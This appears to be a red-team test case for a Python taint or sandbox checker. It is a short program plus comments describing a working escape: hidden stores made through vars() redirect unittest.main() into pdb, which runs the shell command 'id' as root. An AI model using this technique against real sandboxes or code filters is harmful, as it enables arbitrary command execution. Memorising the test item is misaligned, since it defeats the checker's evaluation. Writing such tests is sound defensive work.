# expect: reject store
# line: 40
# verified: red team round 16a (ok_08_vars_items_argv_and_stdin_readline_unittest_main_breakpointhook_pdb_runs_id), reaches its goal under plain python3 3.11 in a temp dir
# why: family D: a value read out of an instance's attribute table (vars(x), x.__dict__, a copy or view of them) carries the marks of every value stored into an attribute
# Mechanism (family D): two stores hidden behind vars(k)[...] items (the store rule loses the module taint of values stored in self): sys.argv gains the test name 'logging.sys.breakpointhook', and sys.stdin's readline (an instance attribute of the interpreter's TextIOWrapper) is replaced by a program function feeding lines. unittest.main() with no argv reads sys.argv: TestLoader.loadTestsFromName walks logging.sys.breakpointhook with getattr from __main__ and calls it (callable(obj): obj()), which starts pdb; pdb's input() calls sys.stdin.readline, i.e. the program's feeder, and pdb exec's the line 'import os; os.system("id")'.
# Goal reached: run a process (id): uid=0(root) ... printed; any Python statement runs (exec through pdb).
# Run-time names: none given to a builtin by the program; the dotted name is walked by unittest's own getattr; no dunder anywhere.
# Output seen under python3 (checker exit 0; stdin </dev/null; first lines):
#   > /usr/lib/python3.11/unittest/loader.py(206)loadTestsFromName()
#   -> if isinstance(test, suite.TestSuite):
#   (Pdb) uid=0(root) gid=0(root) groups=0(root)
#   0
#   (Pdb) Traceback (most recent call last):
#     File "/tmp/tmp.Y7jfyqLbG5/p.py", line 22, in <module>
#       unittest.main(exit=False)
#     File "/usr/lib/python3.11/unittest/main.py", line 101, in __init__
#       self.parseArgs(argv)
#     File "/usr/lib/python3.11/unittest/main.py", line 150, in parseArgs
#       self.createTests()
#     File "/usr/lib/python3.11/unittest/main.py", line 161, in createTests
import logging
import sys
import unittest


class Keep:
    def __init__(self):
        self.args = sys.argv
        self.inp = sys.stdin
        self.lines = ["import os; os.system('id')\n", "c\n"]


def feed():
    if k.lines:
        return k.lines.pop(0)
    return ""


k = Keep()
vars(k)["args"].append("logging.sys.breakpointhook")
vars(k)["inp"].readline = feed
unittest.main(exit=False)
